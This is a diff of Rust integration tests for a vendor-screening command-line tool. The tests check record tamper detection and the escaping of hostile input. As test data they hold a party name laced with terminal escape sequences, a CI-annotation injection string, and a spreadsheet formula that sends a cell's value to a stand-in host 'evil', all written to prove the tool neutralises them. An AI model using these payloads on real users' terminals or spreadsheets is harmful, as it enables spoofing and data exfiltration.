@@ -377,20 +377,109 @@ fn help_has_examples() {
     }
 }
 
+/// A record of nobody, as the page saves it.
+fn record() -> vendor_screener::record::Evidence {
+    vendor_screener::desk::Desk::default().evidence("Jane", None)
+}
+
 #[test]
 fn a_record_is_verified_and_a_changed_one_refused() {
-    let folder = std::path::Path::new(env!("CARGO_TARGET_TMPDIR"));
-    let (whole, changed, other) = (folder.join("record.csv"), folder.join("changed.csv"), folder.join("other.csv"));
+    for (kind, text) in [("html", record().html()), ("csv", record().csv()), ("json", record().json())] {
+        let whole = file(&format!("record.{kind}"), text.as_bytes());
+        let output = run(&["record", "verify", &whole]);
+        assert!(stdout(&output).contains("Whoever changed it could make them fit"), "{kind}: {}", stderr(&output));
+        let changed = file(&format!("changed.{kind}"), text.replace("Jane", "Joan").as_bytes());
+        let output = run(&["record", "verify", &changed]);
+        assert_eq!(output.status.code(), Some(1));
+        assert!(stderr(&output).contains("was changed since it was saved"), "{kind}");
+    }
+    let other = file("other.csv", b"vendor\nAcme\n");
+    assert!(stderr(&run(&["record", "verify", &other])).contains("it is no record"));
+}
+
+#[test]
+fn a_text_that_is_no_record_is_none_though_its_digits_fit() {
     // Sealed by hand, as `record::seal` says: the digest of the file with zeros in the digits' place.
     let sealed = "vendor,decision\nAcme,false_alert\nrecord-sha256,cda08a3cfe4aa31a974d9d933392c6285297c4d3d673ebc521cf33d76e9516ea\n";
-    std::fs::write(&whole, sealed).unwrap();
-    std::fs::write(&changed, sealed.replace("false_alert", "true_match")).unwrap();
-    std::fs::write(&other, "vendor\nAcme\n").unwrap();
-    let verify = |file: &std::path::Path| run(&["record", "verify", file.to_str().unwrap()]);
-    assert!(stdout(&verify(&whole)).contains("is as it was saved"));
-    assert!(stderr(&verify(&changed)).contains("was changed since it was saved"));
-    assert!(stderr(&verify(&other)).contains("it is no record"));
-    assert_eq!([&whole, &changed, &other].map(|file| verify(file).status.code()), [Some(0), Some(1), Some(1)]);
+    let output = run(&["record", "verify", &file("any.txt", sealed.as_bytes())]);
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("it is no record: it has digits as a record has"));
+}
+
+#[test]
+fn a_record_that_was_changed_and_sealed_anew_is_told_by_digits_kept_elsewhere() {
+    let kept = vendor_screener::record::check_record(record().html().as_bytes()).unwrap();
+    let whole = file("kept.html", record().html().as_bytes());
+    let output = run(&["record", "verify", &whole, "--expect", &kept.to_uppercase()]);
+    assert!(stdout(&output).contains("has the digits expected"), "{}", stderr(&output));
+    let forged = vendor_screener::desk::Desk::default().evidence("Joan", None).html();
+    let forged = file("forged.html", forged.as_bytes());
+    let output = run(&["record", "verify", &forged, "--expect", &kept]);
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stderr(&output).contains("it is another record than the one expected"));
+    assert_eq!(run(&["record", "verify", &whole, "--expect", "1f40"]).status.code(), Some(2));
+}
+
+/// An index with one party whose name is made to harm.
+fn index_of(name: &str, party: &str) -> String {
+    let list = file(&format!("{name}.csv"), format!("name,reason\n\"{party}\",because\n").as_bytes());
+    let index = file(&format!("{name}.bin"), b"");
+    let built = run(&["index", "build", &list, "--out", &index]);
+    assert!(built.status.success(), "{}", stderr(&built));
+    index
+}
+
+#[test]
+fn nothing_of_a_name_reaches_the_terminal_that_it_would_obey() {
+    let index = index_of("obeyed", "Zorblax \u{1b}]0;PWNED\u{7}\u{1b}[31m\u{1b}[2J\u{9b}2J \u{202e}Trading\u{7f}");
+    let unseen = |text: &str| text.chars().any(vendor_screener::party::is_unseen);
+    for args in [
+        &["screen", "Zorblax Trading", "--threshold", "40"][..],
+        &["screen", "Zorblax \u{1b}[2J\u{202e}"],
+        &["restrictions", "own-obeyed-\u{1b}[2J"],
+        &["index", "inspect"],
+        &["lists", "status"],
+    ] {
+        let output = run(&[args, &["--index", &index]].concat());
+        assert!(!unseen(stdout(&output)) && !unseen(stderr(&output)), "{args:?}: {output:?}");
+    }
+    let output = run(&["screen", "Zorblax \u{1b}[2J", "--index", &index]);
+    assert!(stdout(&output).contains("Zorblax \\u{1b}[2J"), "{}", stdout(&output));
+    for args in
+        [&["lists", "status", "no\u{1b}[2J\n::warning::such"][..], &["screen", "a", "--index", "\u{9b}2J\u{2066}"]]
+    {
+        let output = run(args);
+        assert!(!unseen(stderr(&output)) && !stderr(&output).contains("\n::warning"), "{args:?}: {output:?}");
+        assert!(stderr(&output).contains("\\u{"));
+    }
+}
+
+#[test]
+fn no_cell_of_a_list_is_a_formula_in_any_csv() {
+    let index = index_of("formula", "=HYPERLINK(\"\"http://evil/?\"\"&A1;\"\"x\"\") Krandor Works");
+    for args in [
+        &["screen", "Krandor Works", "--threshold", "40"][..],
+        &["restrictions", "Krandor Works"],
+        &["lists", "status"],
+    ] {
+        let output = run(&[args, &["--index", &index, "--format", "csv"]].concat());
+        let mut cells =
+            csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(output.stdout.as_slice());
+        let cells: Vec<String> =
+            cells.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
+        assert!(!cells.iter().any(|cell| cell.trim_start().starts_with('=')), "{args:?}: {cells:?}");
+    }
+    let output = run(&["screen", "Krandor Works", "--threshold", "40", "--index", &index, "--format", "csv"]);
+    assert!(stdout(&output).contains("'=HYPERLINK"), "{}", stdout(&output));
+}
+
+#[test]
+fn the_cells_of_a_table_are_no_formulas_unless_they_are_to_stay_as_they_are() {
+    let table = file("formulas.csv", b"vendor,note\nAcme Bakery,=1+1\n");
+    let output = run(&["batch", &table]);
+    assert!(stdout(&output).contains("Acme Bakery,'=1+1,none"), "{}", stdout(&output));
+    let output = run(&["batch", &table, "--raw"]);
+    assert!(stdout(&output).contains("Acme Bakery,=1+1,none"), "{}", stdout(&output));
 }
 
 #[test]
